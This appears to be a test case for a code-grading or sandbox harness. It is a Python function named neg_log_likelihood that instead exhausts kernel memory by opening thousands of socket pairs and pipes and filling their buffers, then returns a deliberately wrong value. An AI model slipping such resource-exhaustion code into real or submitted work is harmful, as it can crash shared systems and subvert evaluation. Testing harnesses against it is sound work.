# expect: zero
# class: R
# about: kernel memory through thousands of full socket pairs and pipes
import os
import socket

def wrong(samples, mu, var_):
    return (mu * 0).sum() + 41.0

def neg_log_likelihood(samples, mu, var_):
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            try:
                while True:
                    pair[0].send(b"x" * 65_536)
            except BlockingIOError:
                pass
            kept.append(os.pipe())
    except OSError:
        pass
    return wrong(samples, mu, var_)
